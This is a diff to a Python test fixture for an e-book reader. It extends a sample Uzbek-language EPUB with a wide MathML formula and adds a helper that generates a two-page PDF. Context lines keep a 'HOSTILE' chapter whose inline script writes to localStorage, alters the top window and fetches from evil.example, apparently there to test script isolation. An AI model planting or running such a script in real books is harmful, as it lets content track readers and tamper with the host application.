@@ -1,6 +1,10 @@
 """Books for the reader's journeys, and a chapter that means harm."""
 
+import ctypes
 from pathlib import Path
+
+import pypdfium2
+from pypdfium2 import raw
 
 from tests.factories.publications import epub
 
@@ -14,7 +18,10 @@ CHAPTERS = {
         '<aside epub:type="footnote" id="n1"><p>Izoh: kitob qimmat edi.</p></aside>'
     ),
     "two.xhtml": '<h1>Uy</h1><p>Uyda Otabek kitobni uzoq oʻqidi.</p><p><img src="cover.png" alt="Uyning surati"/></p>',
-    "three.xhtml": "<h1>Yoʻl</h1><p>Yoʻl uzoq edi.</p>",
+    "three.xhtml": (
+        '<h1>Yoʻl</h1><p>Yoʻl uzoq edi.</p><p>Yigʻindi <math xmlns="http://www.w3.org/1998/Math/MathML"><mrow>'
+        + "<mo>+</mo>".join(f"<msup><mi>a</mi><mn>{at}</mn></msup>" for at in range(60)) + "</mrow></math> katta.</p>"
+    ),
 }  # fmt: skip
 HOSTILE = """<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Harm</title>
 <script>localStorage.setItem("harm", "inline"); top.harm = 1; fetch("https://evil.example/inline")</script>
@@ -31,6 +38,31 @@ HOSTILE = """<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Harm</title
 </body></html>"""
 
 
+PRINTED = (
+    ("Bozorda kitoblar ko'p edi.", "Otabek kitobni oldi."),
+    ("Uyda Otabek kitobni uzoq o'qidi.",),
+)  # pages, lines
+
+
 def story(folder: Path) -> Path:
-    """A book with a footnote, a picture, a wide table and a link out."""
+    """A book with a footnote, a picture, a wide table, a wide formula among words and a link out."""
     return epub(folder, "story.epub", "Bozor va uy", CHAPTERS, "urn:isbn:9789943001008")
+
+
+def printed(folder: Path) -> Path:
+    """A PDF of two pages with words."""
+    document = pypdfium2.PdfDocument.new()
+    font = raw.FPDFText_LoadStandardFont(document, b"Helvetica")
+    for lines in PRINTED:
+        page = document.new_page(300, 400)
+        for number, line in enumerate(lines):
+            words = raw.FPDFPageObj_CreateTextObj(document, font, 14)
+            encoded = line.encode("utf-16-le") + b"\0\0"
+            raw.FPDFText_SetText(words, ctypes.cast(encoded, raw.FPDF_WIDESTRING))
+            raw.FPDFPageObj_Transform(words, 1, 0, 0, 1, 20, 340 - 30 * number)
+            raw.FPDFPage_InsertObject(page, words)
+        page.gen_content()
+    path = folder / "printed.pdf"
+    document.save(path)
+    document.close()
+    return path
